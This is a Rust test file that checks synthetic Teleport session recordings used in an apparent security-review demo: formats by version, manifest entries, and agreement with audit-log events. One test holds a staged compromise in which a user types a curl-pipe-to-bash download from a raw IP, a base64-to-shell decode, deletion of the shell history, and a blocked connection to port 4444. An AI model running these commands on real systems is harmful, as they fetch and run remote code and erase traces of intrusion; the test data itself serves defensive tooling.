//! The demo's session recordings: each decodes (or fails as it should), sits where its Teleport
//! version put recordings, is listed in the manifest, and agrees with its session in the audit
//! log: sid, user, login, node, start and end, terminal size, resizes, joins, enhanced events.

mod common;

use common::{lines_of, Line};
use review_core::time::parse_rfc3339;
use review_recording::{decode, EventKind, Part, Recording, RecordingError};
use std::collections::BTreeSet;
use synth::demo::{self, DemoSet};
use synth::recordings::{Damage, DemoRecording};
use synth::Version;

const MS: i64 = 1_000_000;

fn decoded(set: &DemoSet, r: &DemoRecording) -> Result<Recording, RecordingError> {
    let parts: Vec<Part<'_>> = r
        .paths
        .iter()
        .map(|p| {
            let f = set.files.iter().find(|f| &f.path == p).unwrap_or_else(|| panic!("{p} is not in the set"));
            Part { path: &f.path, bytes: &f.bytes }
        })
        .collect();
    decode(&parts)
}

fn recording<'a>(set: &'a DemoSet, label: &str) -> &'a DemoRecording {
    set.recordings.iter().find(|r| r.label == label).unwrap_or_else(|| panic!("no {label} recording"))
}

fn time(line: &Line) -> i64 {
    parse_rfc3339(line.str("time").unwrap()).unwrap()
}

/// Where a moment of the recording's clock is in wall-clock time.
fn wall(r: &Recording, at: u64) -> i64 {
    r.start_time.unwrap() + at as i64 * MS
}

/// A logged instant and the recording's agree: within the millisecond the decoder may move an
/// event after the print before it, or, for events before the first print (which the decoder
/// puts at 0), anywhere before it.
fn same_instant(r: &Recording, logged: i64, recorded_at: u64) -> bool {
    let recorded = wall(r, recorded_at);
    (logged - recorded).abs() <= MS || (recorded_at == 0 && logged <= recorded)
}

#[test]
fn every_recording_decodes_or_fails_as_it_should() {
    let set = demo::build();
    assert!(set.recordings.len() >= 10, "{}", set.recordings.len());
    for r in &set.recordings {
        let result = decoded(&set, r);
        match r.damage {
            Damage::None => {
                let rec = result.unwrap_or_else(|e| panic!("{}: {e}", r.label));
                assert!(rec.problems.is_empty(), "{}: {:?}", r.label, rec.problems);
                assert_eq!(rec.generation, r.generation, "{}", r.label);
                assert!(rec.prints.len() > 10 && rec.duration > 10_000, "{}", r.label);
                assert!(rec.events.iter().any(|e| e.kind == EventKind::End), "{}", r.label);
            }
            Damage::Encrypted => assert_eq!(result, Err(RecordingError::Encrypted), "{}", r.label),
            Damage::Truncated => {
                let rec = result.unwrap_or_else(|e| panic!("{}: {e}", r.label));
                assert!(rec.problems.iter().any(|p| p.contains("cut")), "{}: {:?}", r.label, rec.problems);
                assert!(rec.output.len() > 1_000, "what came before the cut plays");
                assert!(!rec.events.iter().any(|e| e.kind == EventKind::End));
            }
        }
    }
    let damaged: Vec<(&str, Damage)> =
        set.recordings.iter().filter(|r| r.damage != Damage::None).map(|r| (r.label, r.damage)).collect();
    assert_eq!(damaged, [("truncated", Damage::Truncated), ("encrypted", Damage::Encrypted)]);
    let encrypted = recording(&set, "encrypted");
    assert!(encrypted.era.contains("2024") && encrypted.generation == 3);
}

#[test]
fn each_era_has_its_generation_in_its_place() {
    let set = demo::build();
    for era in &set.eras {
        let here: Vec<&DemoRecording> = set.recordings.iter().filter(|r| r.era == era.root).collect();
        assert!(here.len() >= 2, "{}: {} recordings", era.root, here.len());
        let generation = match era.version {
            v if v < Version::new(2, 5, 0) => 1,
            v if v < Version::V4_4 => 2,
            _ => 3,
        };
        for r in here {
            assert_eq!(r.generation, generation, "{}", r.label);
            for path in &r.paths {
                let (dir, name) = path.rsplit_once('/').unwrap();
                assert_eq!(dir, era.recordings_dir, "{}", r.label);
                assert!(name.starts_with(&r.sid), "{path}");
            }
            let names: Vec<&str> = r.paths.iter().map(|p| p.rsplit_once('/').unwrap().1).collect();
            let expected: Vec<String> = match generation {
                1 => vec![format!("{}.session.log", r.sid), format!("{}.session.bytes", r.sid)],
                2 => {
                    vec![format!("{}.index", r.sid), format!("{}-0.events.gz", r.sid), format!("{}-0.chunks.gz", r.sid)]
                }
                _ => vec![format!("{}.tar", r.sid)],
            };
            assert_eq!(names, expected, "{}", r.label);
        }
    }
}

#[test]
fn the_manifest_lists_the_recordings() {
    let set = demo::build();
    let manifest: serde_json::Value = serde_json::from_str(&set.manifest_json()).unwrap();
    let listed: Vec<(&str, u64)> = manifest["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["path"].as_str().unwrap(), e["size"].as_u64().unwrap()))
        .collect();
    for r in &set.recordings {
        for path in &r.paths {
            let size = set.files.iter().find(|f| &f.path == path).unwrap().bytes.len() as u64;
            assert!(listed.contains(&(path.as_str(), size)), "{path} not listed with size {size}");
        }
    }
}

#[test]
fn recordings_agree_with_their_sessions_in_the_log() {
    let set = demo::build();
    let lines = lines_of(&set.log_files());
    for r in set.recordings.iter().filter(|r| r.damage != Damage::Encrypted) {
        let rec = decoded(&set, r).unwrap();
        let label = r.label;
        // HA auth servers both wrote some lines: count each once.
        let mut seen = BTreeSet::new();
        let of_session: Vec<&Line> =
            lines.iter().filter(|l| l.str("sid") == Some(&r.sid) && seen.insert(l.text.as_str())).collect();
        let start = of_session.iter().find(|l| l.event() == "session.start").unwrap_or_else(|| panic!("{label}"));
        assert_eq!(rec.sid.as_deref(), Some(r.sid.as_str()), "{label}");
        assert_eq!(rec.meta.user.as_deref(), start.str("user"), "{label}");
        assert_eq!(rec.meta.login.as_deref(), start.str("login"), "{label}");
        assert_eq!(rec.meta.server_id.as_deref(), start.str("server_id"), "{label}");
        let node = start.str("server_hostname").or(start.str("server_id"));
        assert_eq!(rec.meta.node.as_deref(), node, "{label}");
        assert_eq!(rec.meta.remote_addr.as_deref(), start.str("addr.remote"), "{label}");
        assert_eq!(rec.meta.start, Some(time(start)), "{label}: same start instant");
        let size = start.str("size").unwrap();
        assert_eq!(rec.initial_size.map(|(c, r)| format!("{c}:{r}")).as_deref(), Some(size), "{label}");
        match of_session.iter().find(|l| l.event() == "session.end") {
            Some(end) => {
                assert_eq!(rec.meta.end, Some(time(end)), "{label}");
                let last_print = rec.prints.last().unwrap();
                assert!(wall(&rec, last_print.at) < time(end), "{label}: nothing printed after the end");
                if let Some(people) = end.value.get("participants") {
                    let people: Vec<&str> = people.as_array().unwrap().iter().map(|p| p.as_str().unwrap()).collect();
                    assert_eq!(rec.meta.participants, people, "{label}");
                }
            }
            None => assert_eq!(r.damage, Damage::Truncated, "{label}: only the crashed session has no end"),
        }
        // Resizes, joins, leaves and enhanced events: the same ones, at the same instants.
        let kinds = ["resize", "session.join", "session.leave", "session.command", "session.network"];
        let logged: Vec<(&str, i64)> =
            of_session.iter().filter(|l| kinds.contains(&l.event())).map(|l| (l.event(), time(l))).collect();
        let recorded: Vec<(&str, u64)> =
            rec.events.iter().filter(|e| kinds.contains(&e.event.as_str())).map(|e| (e.event.as_str(), e.at)).collect();
        assert_eq!(logged.len(), recorded.len(), "{label}: {logged:?} vs {recorded:?}");
        for ((kind, at), (rkind, rat)) in logged.iter().zip(&recorded) {
            assert_eq!(kind, rkind, "{label}");
            assert!(same_instant(&rec, *at, *rat), "{label}: {kind} at {at} vs {}", wall(&rec, *rat));
        }
    }
}

#[test]
fn the_compromise_is_on_screen_with_its_enhanced_events() {
    let set = demo::build();
    let r = recording(&set, "compromise");
    assert_eq!((r.user.as_str(), r.node.as_str(), r.generation), ("dave", "web-02", 3));
    let rec = decoded(&set, r).unwrap();
    let screen = String::from_utf8(rec.output.clone()).unwrap();
    for typed in ["curl -s http://45.9.148.3/x.sh | bash", "base64 -d | sh", "-c && rm -f ~/.bash_history"] {
        assert!(screen.contains(typed), "{typed}");
    }
    assert!(screen.contains("Operation not permitted"), "the refused connection shows");
    assert!(screen.contains("\x1b[01;32mubuntu@web-02\x1b[00m"), "a coloured prompt");
    let denied = rec
        .events
        .iter()
        .find(|e| matches!(&e.kind, EventKind::Network { denied: true, dst } if dst == "45.9.148.3:4444"))
        .expect("the denied connection");
    let error = screen.find("Operation not permitted").unwrap();
    let printed_at = rec.prints.iter().find(|p| p.offset + p.len > error).unwrap().at;
    assert!(printed_at >= denied.at && printed_at < denied.at + 100, "the error follows the denial");
    let programs: BTreeSet<&str> = rec
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Command { path, .. } => Some(path.as_str()),
            _ => None,
        })
        .collect();
    assert!(programs.is_superset(&BTreeSet::from(["/usr/bin/curl", "/usr/bin/base64", "/usr/bin/rm"])));
}

#[test]
fn the_showcase_exercises_the_player() {
    let set = demo::build();
    let r = recording(&set, "showcase");
    let rec = decoded(&set, r).unwrap();
    assert!(rec.duration > 5 * 60_000, "a few minutes at least: {}", rec.duration);
    let screen = String::from_utf8(rec.output.clone()).expect("UTF-8 output");
    assert!(screen.contains("\x1b[?1049h") && screen.contains("\x1b[?1049l"), "alternate screen");
    assert!(screen.contains("\x1b[01;34m"), "ls colours");
    assert!(screen.contains("\x1b[33m3f2a9c1\x1b[m"), "git log colours");
    assert!(screen.contains("-- INSERT --"), "vim");
    assert!(screen.matches("\rcrictl").count() > 10, "a progress bar redrawn with \\r");
    assert!(screen.contains("部署手順") && screen.contains("🚀"), "wide characters and emoji");
    // A resize in the middle, while the full-screen program runs: it redraws at the new size.
    let resize = rec
        .events
        .iter()
        .find(|e| matches!(e.kind, EventKind::Resize { .. }) && e.at > 60_000)
        .expect("a resize mid-session");
    let EventKind::Resize { rows, .. } = resize.kind else { unreachable!() };
    let redraw = rec.prints.iter().find(|p| p.at >= resize.at).unwrap();
    let redrawn = String::from_utf8_lossy(&rec.output[redraw.offset..redraw.offset + redraw.len]);
    assert!(redrawn.starts_with("\x1b[H\x1b[2J") && redrawn.contains(&format!("\x1b[{rows};1H")));
    // The redraw is a whole htop screen, not just its key bar: meters and the process table.
    assert!(
        redrawn.contains("PID USER") && redrawn.contains("Mem\x1b[1;39m[") && redrawn.contains("Load average"),
        "{redrawn:?}"
    );
    // Typed one key at a time, 80–200 ms apart; and idle gaps of minutes.
    let keys: Vec<u64> =
        rec.prints.windows(2).filter(|w| w[1].len == 1 && w[0].len == 1).map(|w| w[1].at - w[0].at).collect();
    assert!(keys.len() > 50 && keys.iter().filter(|&&d| (80..=200).contains(&d)).count() * 10 > keys.len() * 8);
    let idle = rec.prints.windows(2).filter(|w| w[1].at - w[0].at > 2 * 60_000).count();
    assert!(idle >= 2, "idle gaps of minutes: {idle}");
}

#[test]
fn people_and_places_of_the_other_stories() {
    let set = demo::build();
    let root = recording(&set, "root-after-hours");
    assert_eq!(
        (root.user.as_str(), root.login.as_str(), root.node.as_str()),
        ("frank@acme.io", "root", "db-primary-01")
    );
    let rec = decoded(&set, root).unwrap();
    assert!(String::from_utf8_lossy(&rec.output).contains("root@db-primary-01\x1b[00m:\x1b[01;34m~\x1b[00m# "));
    assert!(rec.events.iter().any(|e| matches!(e.kind, EventKind::Command { .. })), "enhanced node");

    for label in ["joined", "gen1-joined", "gen2-joined", "gen3-joined"] {
        let r = recording(&set, label);
        let rec = decoded(&set, r).unwrap();
        let joiners: Vec<&str> = rec
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Join { user } => Some(user.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(joiners.len(), 1, "{label}");
        assert_ne!(joiners[0], r.user, "{label}: a second user");
        assert_eq!(rec.meta.participants.len(), 2, "{label}");
    }
    let long = recording(&set, "long-hostname");
    assert_eq!(long.node.len(), 300);
}

#[test]
fn terminal_output_is_what_a_terminal_gets() {
    let set = demo::build();
    for r in set.recordings.iter().filter(|r| r.damage == Damage::None) {
        let rec = decoded(&set, r).unwrap();
        let out = &rec.output;
        assert!(std::str::from_utf8(out).is_ok(), "{}: UTF-8", r.label);
        let bare_lf = out.iter().enumerate().filter(|(i, &b)| b == b'\n' && (*i == 0 || out[i - 1] != b'\r')).count();
        assert_eq!(bare_lf, 0, "{}: lines end in \\r\\n", r.label);
        assert!(out.starts_with(b"\r\n") || out.starts_with(b"Welcome") || out.starts_with(b"\r\n       __|"));
        assert!(rec.prints.windows(2).all(|w| w[0].at <= w[1].at), "{}", r.label);
        // Every logged program starts after its line was typed: Return's echo comes first.
        for e in rec.events.iter().filter(|e| matches!(e.kind, EventKind::Command { .. })) {
            let before = rec.prints.iter().rev().find(|p| p.at <= e.at).unwrap();
            let text = &rec.output[before.offset..before.offset + before.len];
            assert!(text.starts_with(b"\r\n"), "{}: {}: {:?}", r.label, e.summary, String::from_utf8_lossy(text));
        }
    }
}
